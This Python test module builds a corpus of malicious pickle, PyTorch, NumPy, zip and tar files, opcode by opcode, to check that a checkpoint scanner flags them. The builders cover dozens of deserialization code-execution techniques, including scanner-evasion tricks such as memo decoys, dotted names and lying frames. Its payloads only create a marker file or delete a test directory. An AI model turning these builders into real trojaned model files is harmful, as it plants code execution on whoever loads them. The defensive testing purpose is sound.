"""The hostile corpus: one builder per attack technique, written opcode by opcode.

Every payload leaves a visible effect (it creates ``<work>/marker``, or deletes
``<work>/victim`` for ``shutil.rmtree``) so that a test can prove it really runs under the
loader named in its :class:`Case`, and that scanning it runs nothing.

Shared by ``tests/test_scan.py`` and ``benchmarks/scan.py`` (which puts this directory on
``sys.path``). Builders that need torch or numpy import them lazily.
"""

from __future__ import annotations

import io
import marshal
import os
import pickle
import pickletools
import struct
import tarfile
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from helpers import rewrite_zip

__all__ = [
    "BENIGN_EXPECTED",
    "CASES",
    "LOADER_SCRIPT",
    "Case",
    "build_benign",
    "build_case",
    "effect_happened",
    "legacy_tar",
    "loader_env",
]


# --- opcode helpers -----------------------------------------------------------------------------

MARK, STOP, POP, TUPLE, TUPLE1, TUPLE2, REDUCE, BUILD = b"(", b".", b"0", b"t", b"\x85", b"\x86", b"R", b"b"
EMPTY_TUPLE, EMPTY_DICT, NONE, SETITEM, NEWOBJ, NEWOBJ_EX = b")", b"}", b"N", b"s", b"\x81", b"\x92"
MEMOIZE, STACK_GLOBAL, NEWFALSE = b"\x94", b"\x93", b"\x89"


def proto(n: int) -> bytes:
    return b"\x80" + bytes([n])


def frame(n: int) -> bytes:
    return b"\x95" + struct.pack("<Q", n)


def glob0(module: str, name: str) -> bytes:
    """GLOBAL (protocols 0-3): ``c<module>\\n<name>\\n``."""
    return b"c" + module.encode() + b"\n" + name.encode() + b"\n"


def ustr(text: str) -> bytes:
    """SHORT_BINUNICODE, or BINUNICODE when longer than 255 bytes."""
    raw = text.encode()
    if len(raw) < 256:
        return b"\x8c" + bytes([len(raw)]) + raw
    return b"X" + struct.pack("<I", len(raw)) + raw


def str0(text: str) -> bytes:
    """STRING (protocol 0), quoted the way repr quotes it."""
    return b"S" + repr(text).encode() + b"\n"


def binbytes(data: bytes) -> bytes:
    return b"B" + struct.pack("<I", len(data)) + data


def sglobal(module: str, name: str) -> bytes:
    return ustr(module) + ustr(name) + STACK_GLOBAL


def call(func: bytes, *args: bytes) -> bytes:
    """``func(*args)``: func MARK args TUPLE REDUCE."""
    return func + MARK + b"".join(args) + TUPLE + REDUCE


def shell(work: Path) -> str:
    return f"touch '{work / 'marker'}'"


def pycode(work: Path) -> str:
    return f"open({str(work / 'marker')!r}, 'w').close()"


def os_system0(work: Path) -> bytes:
    """``os.system(touch marker)`` in protocol-0 opcodes, result left on the stack."""
    return call(glob0("os", "system"), str0(shell(work)))


def raw_payload(work: Path) -> bytes:
    return os_system0(work) + STOP


# --- builders (each writes its file into ``work`` and returns the path) ---------------------------

def _write(work: Path, name: str, data: bytes) -> Path:
    path = work / name
    path.write_bytes(data)
    return path


def b_os_system(work: Path) -> Path:
    return _write(work, "os_system.pkl", raw_payload(work))


def b_posix_system(work: Path) -> Path:
    return _write(work, "posix.pkl", call(glob0("posix", "system"), str0(shell(work))) + STOP)


def b_nt_system(work: Path) -> Path:
    return _write(work, "nt.pkl", call(glob0("nt", "system"), str0(f'type nul > "{work / "marker"}"')) + STOP)


def b_builtin_eval(work: Path) -> Path:
    # __builtin__ is Python 2's name: protocol < 3 streams go through _compat_pickle (fix_imports)
    return _write(work, "builtin_eval.pkl", call(glob0("__builtin__", "eval"), str0(pycode(work))) + STOP)


def b_builtin_exec(work: Path) -> Path:
    return _write(work, "builtin_exec.pkl", proto(2) + call(glob0("__builtin__", "exec"), str0(pycode(work))) + STOP)


def b_stack_global_memo(work: Path) -> Path:
    # decoy strings, then the real names fetched back from the memo (picklescan issue 22 shape)
    body = (ustr("torch") + MEMOIZE + POP + ustr("FloatStorage") + MEMOIZE + POP
            + ustr("builtins") + MEMOIZE + POP + ustr("exec") + MEMOIZE + POP
            + b"h\x02" + b"h\x03" + STACK_GLOBAL
            + ustr(pycode(work)) + TUPLE1 + REDUCE + STOP)
    return _write(work, "stack_global_memo.pkl", proto(4) + body)


def b_getattr_chain(work: Path) -> Path:
    os_mod = call(glob0("builtins", "__import__"), str0("os"))
    system = call(glob0("builtins", "getattr"), os_mod, str0("system"))
    return _write(work, "getattr_chain.pkl", proto(2) + call(system, str0(shell(work))) + STOP)


def b_dotted_name(work: Path) -> Path:
    # protocol 4 resolves a dotted name by getattr: pathlib.os.system is os.system
    return _write(work, "dotted.pkl", proto(4) + sglobal("pathlib", "os.system") + ustr(shell(work)) + TUPLE1
                  + REDUCE + STOP)


def b_dotted_torch(work: Path) -> Path:
    return _write(work, "dotted_torch.pkl", proto(4) + sglobal("torch", "serialization.os.system")
                  + ustr(shell(work)) + TUPLE1 + REDUCE + STOP)


def b_inst(work: Path) -> Path:
    return _write(work, "inst.pkl", MARK + str0(shell(work)) + b"i" + b"os\nsystem\n" + STOP)


def b_obj(work: Path) -> Path:
    return _write(work, "obj.pkl", MARK + glob0("os", "system") + str0(shell(work)) + b"o" + STOP)


def _code_bytes(work: Path) -> bytes:
    return marshal.dumps(compile(pycode(work), "<payload>", "exec"))


def b_newobj(work: Path) -> Path:
    code = call(sglobal("marshal", "loads"), binbytes(_code_bytes(work)))
    func = sglobal("types", "FunctionType") + code + EMPTY_DICT + TUPLE2 + NEWOBJ
    return _write(work, "newobj.pkl", proto(4) + func + EMPTY_TUPLE + REDUCE + STOP)


def b_newobj_ex(work: Path) -> Path:
    code = call(sglobal("marshal", "loads"), binbytes(_code_bytes(work)))
    kwargs = EMPTY_DICT + ustr("globals") + EMPTY_DICT + SETITEM
    func = sglobal("types", "FunctionType") + code + TUPLE1 + kwargs + NEWOBJ_EX
    return _write(work, "newobj_ex.pkl", proto(4) + func + EMPTY_TUPLE + REDUCE + STOP)


def b_build_setstate(work: Path) -> Path:
    # the first BUILD puts __setstate__ in the instance dict, the second BUILD calls it
    obj = glob0("argparse", "Namespace") + EMPTY_TUPLE + NEWOBJ
    slots = NONE + EMPTY_DICT + str0("__setstate__") + glob0("os", "system") + SETITEM + TUPLE2
    return _write(work, "build_setstate.pkl", proto(2) + obj + slots + BUILD + str0(shell(work)) + BUILD + STOP)


def b_subprocess_popen(work: Path) -> Path:
    argv = MARK + str0("touch") + str0(str(work / "marker")) + b"l"
    return _write(work, "popen.pkl", call(glob0("subprocess", "Popen"), argv) + STOP)


def b_runpy(work: Path) -> Path:
    return _write(work, "runpy.pkl", proto(4) + sglobal("runpy", "_run_code") + ustr(pycode(work)) + EMPTY_DICT
                  + TUPLE2 + REDUCE + STOP)


def b_pickle_loads(work: Path) -> Path:
    inner = raw_payload(work)
    return _write(work, "pickle_loads.pkl", proto(3) + call(glob0("pickle", "loads"), binbytes(inner)) + STOP)


def _partial(func: bytes, kwargs: dict[str, bytes]) -> bytes:
    """functools.partial(func, **kwargs) the way pickle rebuilds it: REDUCE then BUILD state."""
    kw = EMPTY_DICT + b"".join(ustr(k) + v + SETITEM for k, v in kwargs.items())
    state = MARK + func + EMPTY_TUPLE + kw + NONE + TUPLE
    return glob0("functools", "partial") + func + TUPLE1 + REDUCE + state + BUILD


def b_torch_load(work: Path) -> Path:
    inner = _write(work, "inner.pt", raw_payload(work))
    loader = _partial(glob0("torch", "load"), {"weights_only": NEWFALSE})
    return _write(work, "torch_load.pkl", proto(2) + call(loader, str0(str(inner))) + STOP)


def b_load_from_bytes(work: Path) -> Path:
    # pickle.dump(tensor) stores storages as torch.storage._load_from_bytes(b): a nested torch.load
    nested = call(glob0("torch.storage", "_load_from_bytes"), binbytes(raw_payload(work)))
    return _write(work, "load_from_bytes.pkl", proto(3) + nested + STOP)


def _torch_zip(work: Path) -> Path:
    import torch

    path = work / "base.pt"
    torch.save({"weight": torch.ones(2, 2), "step": 3}, path)
    return path


def b_zip_second_entry(work: Path) -> Path:
    return rewrite_zip(_torch_zip(work), work / "second_entry.pt", extra={"extra/payload.bin": raw_payload(work)})


def b_torch_zip_data_pkl(work: Path) -> Path:
    # the payload runs, then POP, then torch's own data.pkl: the file still loads its weights
    payload = os_system0(work) + POP
    return rewrite_zip(_torch_zip(work), work / "data_pkl.pt", {"/data.pkl": lambda data: payload + data})


def b_zip_name_mismatch(work: Path) -> Path:
    path = b_torch_zip_data_pkl(work)
    raw = bytearray(path.read_bytes())
    pos = 0
    while (pos := raw.find(b"PK\x03\x04", pos)) >= 0:
        (nlen,) = struct.unpack_from("<H", raw, pos + 26)
        if raw[pos + 30:pos + 30 + nlen].endswith(b"data.pkl"):
            raw[pos + 30 + nlen - 1] = ord("X")   # local header: data.pkX, central directory: data.pkl
            break
        pos += 4
    return _write(work, "mismatch.pt", bytes(raw))


def _stream_bounds(data: bytes, count: int) -> list[int]:
    """Start offsets of the first ``count`` pickles back to back in ``data``."""
    starts, pos = [], 0
    for _ in range(count):
        starts.append(pos)
        stream = io.BytesIO(data)
        stream.seek(pos)
        for _ in pickletools.genops(stream):
            pass
        pos = stream.tell()
    return starts


def _legacy(work: Path, index: int) -> Path:
    import torch

    base = work / "legacy_base.pt"
    torch.save({"weight": torch.ones(2, 2)}, base, _use_new_zipfile_serialization=False)
    data = base.read_bytes()
    start = _stream_bounds(data, 5)[index]
    return _write(work, f"legacy_{index + 1}.pt", data[:start] + os_system0(work) + POP + data[start:])


def _legacy_builder(index: int) -> Callable[[Path], Path]:
    def build(work: Path) -> Path:
        return _legacy(work, index)
    build.__name__ = f"b_legacy_pickle_{index + 1}"
    return build


def _tar_member(tar: tarfile.TarFile, name: str, data: bytes) -> None:
    info = tarfile.TarInfo(name)
    info.size = len(data)
    tar.addfile(info, io.BytesIO(data))


def legacy_tar(path: Path, *, payload: bytes = b"", member: str = "") -> Path:
    """torch's pre-0.4 tar layout: one float storage of 2 elements, no tensors, a dict pickle."""
    storage_record = pickle.dumps(("0", "cpu", _storage_class()), 2) + struct.pack("<q", 2) + b"\0" * 8
    members = {
        "sys_info": pickle.dumps({"protocol_version": 1001, "little_endian": True, "type_sizes": {}}, 2),
        "storages": pickle.dumps(1, 2) + storage_record + pickle.dumps([], 2),
        "tensors": pickle.dumps(0, 2),
        "pickle": pickle.dumps({"epoch": 3, "name": "legacy tar"}, 2),
    }
    if member:
        members[member] = payload + members[member]
    with tarfile.open(path, "w", format=tarfile.PAX_FORMAT) as tar:
        for name, data in members.items():
            _tar_member(tar, name, data)
    return path


def _storage_class():
    import torch

    return torch.FloatStorage


def _tar_builder(member: str) -> Callable[[Path], Path]:
    def build(work: Path) -> Path:
        return legacy_tar(work / f"tar_{member}.tar", payload=os_system0(work) + POP, member=member)
    build.__name__ = f"b_tar_{member}"
    return build


def b_stacked(work: Path) -> Path:
    return _write(work, "stacked.pkl", pickle.dumps([1, 2, 3], 2) + raw_payload(work))


def b_pickle_then_zip(work: Path) -> Path:
    zip_bytes = _torch_zip(work).read_bytes()
    return _write(work, "pickle_zip.pt", proto(2) + os_system0(work) + STOP + zip_bytes)


def b_frame_lying(work: Path) -> Path:
    # the frame claims 2 bytes; the C unpickler reads on through the payload regardless
    body = sglobal("os", "system") + ustr(shell(work)) + TUPLE1 + REDUCE + STOP
    return _write(work, "frame.pkl", proto(4) + frame(2) + body)


def b_truncated(work: Path) -> Path:
    # runs os.system, then the stream breaks (no STOP, garbage): pickle.loads raises after the fact
    return _write(work, "truncated.pkl", os_system0(work) + b"\xff\xfe")


def b_attrgetter(work: Path) -> Path:
    os_mod = call(glob0("importlib", "import_module"), str0("os"))
    system = call(call(glob0("operator", "attrgetter"), str0("system")), os_mod)
    return _write(work, "attrgetter.pkl", proto(2) + call(system, str0(shell(work))) + STOP)


def b_partial(work: Path) -> Path:
    bound = call(glob0("functools", "partial"), glob0("os", "system"), str0(shell(work)))
    return _write(work, "partial.pkl", proto(2) + bound + EMPTY_TUPLE + REDUCE + STOP)


def b_importlib(work: Path) -> Path:
    os_mod = call(glob0("importlib", "import_module"), str0("os"))
    system = call(glob0("builtins", "getattr"), os_mod, str0("system"))
    return _write(work, "importlib.pkl", proto(2) + call(system, str0(shell(work))) + STOP)


def b_ctypes(work: Path) -> Path:
    libc = call(glob0("ctypes", "CDLL"), NONE)
    system = call(glob0("builtins", "getattr"), libc, str0("system"))
    return _write(work, "ctypes.pkl", proto(3) + call(system, binbytes(shell(work).encode())) + STOP)


def b_socket(work: Path) -> Path:
    # socket.socket(AF_UNIX, SOCK_STREAM).bind(marker) creates the marker as a socket file
    sock = call(sglobal("socket", "socket"), b"K\x01", b"K\x01")
    bind = sglobal("socket", "socket.bind") + MARK + sock + ustr(str(work / "marker")) + TUPLE + REDUCE
    return _write(work, "socket.pkl", proto(4) + bind + STOP)


def b_webbrowser(work: Path) -> Path:
    # the loader runs with BROWSER="touch %s": webbrowser.open runs the configured browser command
    return _write(work, "webbrowser.pkl", call(glob0("webbrowser", "open"), str0(str(work / "marker"))) + STOP)


def b_code_interpreter(work: Path) -> Path:
    interp = sglobal("code", "InteractiveInterpreter") + EMPTY_TUPLE + REDUCE
    run = sglobal("code", "InteractiveInterpreter.runsource") + MARK + interp + ustr(pycode(work)) + TUPLE + REDUCE
    return _write(work, "code.pkl", proto(4) + run + STOP)


def npy_with_pickle(path: Path, payload: bytes) -> Path:
    header = b"{'descr': '|O', 'fortran_order': False, 'shape': (1,), }"
    header += b" " * (63 - (10 + len(header)) % 64) + b"\n"
    path.write_bytes(b"\x93NUMPY\x01\x00" + struct.pack("<H", len(header)) + header + payload)
    return path


def b_npy_object(work: Path) -> Path:
    return npy_with_pickle(work / "object.npy", proto(2) + os_system0(work) + STOP)


def b_numpy_load(work: Path) -> Path:
    inner = npy_with_pickle(work / "inner.npy", proto(2) + os_system0(work) + STOP)
    outer = call(glob0("numpy", "load"), str0(str(inner)), NONE, b"\x88")   # (file, mmap_mode, allow_pickle)
    return _write(work, "numpy_load.pkl", proto(2) + outer + STOP)


def b_timeit(work: Path) -> Path:
    # timeit.timeit(stmt="pass", setup=<payload>): the setup string runs
    return _write(work, "timeit.pkl", call(glob0("timeit", "timeit"), str0("pass"), str0(pycode(work))) + STOP)


def b_cprofile(work: Path) -> Path:
    return _write(work, "cprofile.pkl", call(glob0("cProfile", "run"), str0(pycode(work))) + STOP)


def b_pdb(work: Path) -> Path:
    # pdb.run stops at the first line; the loader's stdin says "c" (continue)
    return _write(work, "pdb.pkl", call(glob0("pdb", "run"), str0(pycode(work))) + STOP)


def b_torch_hub(work: Path) -> Path:
    hub = work / "hub"
    hub.mkdir(exist_ok=True)
    (hub / "hubconf.py").write_text(f"{pycode(work)}\n\ndef entry():\n    return 1\n")
    loader = _partial(glob0("torch.hub", "load"), {"source": str0("local")})
    return _write(work, "torch_hub.pkl", proto(2) + call(loader, str0(str(hub)), str0("entry")) + STOP)


def b_shutil_rmtree(work: Path) -> Path:
    (work / "victim").mkdir(exist_ok=True)
    (work / "victim" / "precious.txt").write_text("keep me")
    return _write(work, "rmtree.pkl", call(glob0("shutil", "rmtree"), str0(str(work / "victim"))) + STOP)


def b_builtins_open(work: Path) -> Path:
    return _write(work, "open.pkl", proto(2) + call(glob0("builtins", "open"), str0(str(work / "marker")),
                                                    str0("w")) + STOP)


def b_ext1(work: Path) -> Path:
    # EXT1 240 names a global through copyreg's registry (the loader registers os.system there)
    return _write(work, "ext1.pkl", proto(2) + b"\x82\xf0" + MARK + str0(shell(work)) + TUPLE + REDUCE + STOP)


def b_npz_object(work: Path) -> Path:
    npy = npy_with_pickle(work / "arr.npy", proto(2) + os_system0(work) + STOP).read_bytes()
    with zipfile.ZipFile(work / "object.npz", "w") as z:
        z.writestr("arr.npy", npy)
    return work / "object.npz"


def b_gzip_pickle(work: Path) -> Path:
    import gzip

    return _write(work, "payload.pkl.gz", gzip.compress(raw_payload(work)))


# --- the table --------------------------------------------------------------------------------------

@dataclass(frozen=True)
class Case:
    """``loader``: how the file's payload is made to run in the proof (see LOADER_SCRIPT):
    ``pickle`` (pickle.loads of the bytes), ``pickle-file`` (pickle.load of the open file),
    ``pickle-all`` (every stacked pickle), ``torch`` (torch.load weights_only=False),
    ``numpy`` (numpy.load allow_pickle=True), ``zip-entry:NAME``, ``gzip-pickle``, ``dcp`` (a
    torch.distributed.checkpoint directory, read by DCP's dcp_to_torch_save).
    ``expect``: ``dangerous``, or ``not-safe`` where that is the honest answer."""

    name: str
    build: Callable[[Path], Path]
    loader: str
    expect: str = "dangerous"
    effect: str = "marker"          # or "victim-deleted"
    platform: str | None = None     # only provable there


CASES: tuple[Case, ...] = (
    Case("os-system-reduce", b_os_system, "pickle"),
    Case("posix-system", b_posix_system, "pickle"),
    Case("nt-system", b_nt_system, "pickle", platform="win32"),
    Case("builtin-eval-proto0", b_builtin_eval, "pickle"),
    Case("builtin-exec-proto2", b_builtin_exec, "pickle"),
    Case("stack-global-memo", b_stack_global_memo, "pickle"),
    Case("getattr-chain", b_getattr_chain, "pickle"),
    Case("dotted-name", b_dotted_name, "pickle"),
    Case("dotted-name-torch", b_dotted_torch, "pickle"),
    Case("inst-opcode", b_inst, "pickle"),
    Case("obj-opcode", b_obj, "pickle"),
    Case("newobj-functiontype", b_newobj, "pickle"),
    Case("newobj-ex-functiontype", b_newobj_ex, "pickle"),
    Case("build-setstate", b_build_setstate, "pickle"),
    Case("subprocess-popen", b_subprocess_popen, "pickle"),
    Case("runpy-run-code", b_runpy, "pickle"),
    Case("pickle-loads-nested", b_pickle_loads, "pickle"),
    Case("torch-load-nested", b_torch_load, "pickle"),
    Case("load-from-bytes-nested", b_load_from_bytes, "pickle"),
    Case("zip-second-entry", b_zip_second_entry, "zip-entry:base/extra/payload.bin"),
    Case("torch-zip-data-pkl", b_torch_zip_data_pkl, "torch"),
    *(Case(f"legacy-pickle-{i + 1}", _legacy_builder(i), "torch") for i in range(5)),
    *(Case(f"legacy-tar-{m}", _tar_builder(m), "torch") for m in ("pickle", "storages", "tensors")),
    Case("stacked-pickles", b_stacked, "pickle-all"),
    Case("pickle-then-zip", b_pickle_then_zip, "torch"),
    Case("frame-lying-length", b_frame_lying, "pickle"),
    Case("truncated-after-reduce", b_truncated, "pickle"),
    Case("zip-name-mismatch", b_zip_name_mismatch, "torch"),
    Case("operator-attrgetter", b_attrgetter, "pickle"),
    Case("functools-partial", b_partial, "pickle"),
    Case("importlib-import-module", b_importlib, "pickle"),
    Case("ctypes-cdll", b_ctypes, "pickle"),
    Case("socket-bind", b_socket, "pickle"),
    Case("webbrowser-open", b_webbrowser, "pickle"),
    Case("code-interactive-interpreter", b_code_interpreter, "pickle"),
    Case("npy-object-array", b_npy_object, "numpy"),
    Case("npz-object-array", b_npz_object, "numpy"),
    Case("numpy-load-allow-pickle", b_numpy_load, "pickle"),
    Case("timeit-setup-string", b_timeit, "pickle"),
    Case("cprofile-run", b_cprofile, "pickle"),
    Case("pdb-run", b_pdb, "pickle"),
    Case("torch-hub-load", b_torch_hub, "pickle"),
    Case("shutil-rmtree", b_shutil_rmtree, "pickle", effect="victim-deleted"),
    Case("builtins-open-write", b_builtins_open, "pickle"),
    Case("ext1-registry", b_ext1, "pickle"),
    Case("gzip-wrapped-pickle", b_gzip_pickle, "gzip-pickle"),
)


def _area_cases() -> tuple[Case, ...]:
    """Attacks grouped by area, one module each (``hostile_<area>.py``), appended to the table."""
    import importlib

    found: list[Case] = []
    for area in ("zip", "pickle", "rules", "containers", "paths", "weights"):
        found.extend(importlib.import_module(f"hostile_{area}").CASES)
    return tuple(found)


CASES = CASES + _area_cases()


def build_case(case: Case, root: Path) -> Path:
    """Build ``case`` in its own folder under ``root``; return the hostile file."""
    work = (root / case.name).resolve()
    work.mkdir(parents=True, exist_ok=True)
    return case.build(work)


def effect_happened(case: Case, path: Path) -> bool:
    work = path.parent
    if case.effect == "victim-deleted":
        return not (work / "victim").exists()
    return os.path.lexists(work / "marker")


def loader_env() -> dict[str, str]:
    env = dict(os.environ)
    env["BROWSER"] = "touch %s"
    return env


# Loads each (path, loader) of a JSON list given on argv[1], each in its own try: a payload
# only has to run, the load may fail afterwards.
LOADER_SCRIPT = r'''
import copyreg, gzip, io, json, pickle, sys, warnings, zipfile
warnings.simplefilter("ignore")
copyreg.add_extension("os", "system", 240)
import numpy, torch
for path, loader in json.loads(sys.argv[1]):
    try:
        if loader == "pickle":
            pickle.loads(open(path, "rb").read())
        elif loader == "pickle-file":
            with open(path, "rb") as f:
                pickle.load(f)
        elif loader == "pickle-all":
            with open(path, "rb") as f:
                while True:
                    pickle.load(f)
        elif loader == "torch":
            torch.load(path, weights_only=False)
        elif loader == "numpy":
            loaded = numpy.load(path, allow_pickle=True)
            if hasattr(loaded, "files"):
                [loaded[k] for k in loaded.files]
        elif loader.startswith("zip-entry:"):
            pickle.loads(zipfile.ZipFile(path).read(loader.split(":", 1)[1]))
        elif loader == "gzip-pickle":
            pickle.loads(gzip.decompress(open(path, "rb").read()))
        elif loader == "dcp":
            import os, tempfile
            from torch.distributed.checkpoint.format_utils import dcp_to_torch_save
            dcp_to_torch_save(path, os.path.join(tempfile.mkdtemp(), "out.pt"))
        else:
            raise SystemExit(f"unknown loader {loader}")
    except BaseException as exc:
        if isinstance(exc, SystemExit) and str(exc).startswith("unknown loader"):
            raise
        print(f"{path}: {type(exc).__name__}: {str(exc)[:120]}", file=sys.stderr)
'''


# --- the benign corpus --------------------------------------------------------------------------

# What torchckpt must say about each benign file: plain data is safe, and so is a TorchScript
# archive whose code/ calls only torch's own operators; a whole model of a user class carries
# code (suspicious), but nothing known to be harmful.
BENIGN_EXPECTED = {
    "state_dict.pt": "safe", "state_dict_legacy.pt": "safe", "checkpoint.pt": "safe",
    "checkpoint_legacy.pt": "safe", "linear_module.pt": "safe", "sequential_modules.pt": "safe",
    **{f"plain_p{p}.pkl": "safe" for p in range(6)}, "tensor_pickle.pkl": "safe", "arr.npy": "safe",
    "arrs.npz": "safe", "object_arr.npy": "safe", "legacy.tar": "safe", "weights.safetensors": "safe",
    "user_model.pt": "suspicious", "script.pt": "safe",
}


def _user_model_class():
    """``hostile.TinyNet``: a model class defined outside torch (what ``torch.save(model)`` pickles)."""
    if "TinyNet" not in globals():
        import torch

        class TinyNet(torch.nn.Module):
            def __init__(self):
                super().__init__()
                self.fc = torch.nn.Linear(4, 2)
                self.bn = torch.nn.BatchNorm1d(2)

            def forward(self, x):
                return self.bn(self.fc(x))

        TinyNet.__module__, TinyNet.__qualname__ = __name__, "TinyNet"
        globals()["TinyNet"] = TinyNet
    return globals()["TinyNet"]


def build_benign(root: Path) -> dict[str, Path]:
    """Every kind of benign file users save, in ``root``; keys are those of BENIGN_EXPECTED."""
    import argparse
    import pathlib
    import random
    import warnings

    import numpy as np
    import torch

    root.mkdir(parents=True, exist_ok=True)
    net = _user_model_class()()
    opt = torch.optim.AdamW(net.parameters(), lr=1e-3)
    net(torch.randn(3, 4)).sum().backward()
    opt.step()
    sched = torch.optim.lr_scheduler.StepLR(opt, 10)
    ckpt = {"model": net.state_dict(), "optimizer": opt.state_dict(), "scheduler": sched.state_dict(),
            "args": argparse.Namespace(lr=1e-3, name="run", dims=[1, 2]), "path": pathlib.Path("/data/x"),
            "np_scalar": np.float32(1.5), "np_int": np.int64(3), "np_arr": np.arange(5), "np_dtype": np.dtype("f2"),
            "set": {1, 2}, "frozen": frozenset({3}), "bytes": b"\x00\x01", "complex": 1 + 2j,
            "dtype": torch.bfloat16, "size": torch.Size([2, 3]), "device": torch.device("cuda:0"),
            "rng": {"torch": torch.get_rng_state(), "numpy": np.random.get_state(), "python": random.getstate()},
            "bf16": torch.ones(2, dtype=torch.bfloat16), "param": torch.nn.Parameter(torch.ones(2)), "epoch": 3}
    files: dict[str, Path] = {}

    def save(name: str, obj, **kw) -> None:
        files[name] = root / name
        torch.save(obj, files[name], **kw)

    save("state_dict.pt", net.state_dict())
    save("state_dict_legacy.pt", net.state_dict(), _use_new_zipfile_serialization=False)
    save("checkpoint.pt", ckpt)
    save("checkpoint_legacy.pt", ckpt, _use_new_zipfile_serialization=False)
    save("linear_module.pt", torch.nn.Linear(2, 2))
    save("sequential_modules.pt", torch.nn.Sequential(torch.nn.Conv2d(1, 2, 3), torch.nn.ReLU(), torch.nn.LSTM(2, 2)))
    save("user_model.pt", net)
    plain = {"a": [1, 2.5, "x", b"y", None, True], "s": {1}, "c": 1j, "n": argparse.Namespace(x=1),
             "p": pathlib.PurePosixPath("/a")}
    for protocol in range(6):
        files[f"plain_p{protocol}.pkl"] = _write(root, f"plain_p{protocol}.pkl", pickle.dumps(plain, protocol))
    files["tensor_pickle.pkl"] = _write(root, "tensor_pickle.pkl", pickle.dumps({"t": torch.ones(3)}))
    for name, array in (("arr.npy", np.ones(3)), ("object_arr.npy", np.array([1, "two", None], dtype=object))):
        files[name] = root / name
        np.save(files[name], array, allow_pickle=True)
    files["arrs.npz"] = root / "arrs.npz"
    np.savez(files["arrs.npz"], a=np.ones(2), b=np.array([None, 1], dtype=object))
    files["legacy.tar"] = legacy_tar(root / "legacy.tar")
    from safetensors.torch import save_file

    files["weights.safetensors"] = root / "weights.safetensors"
    save_file({"w": torch.ones(2, 2)}, files["weights.safetensors"])
    with warnings.catch_warnings():
        warnings.simplefilter("ignore")
        files["script.pt"] = root / "script.pt"
        torch.jit.script(torch.nn.Linear(2, 2)).save(files["script.pt"])
    return files
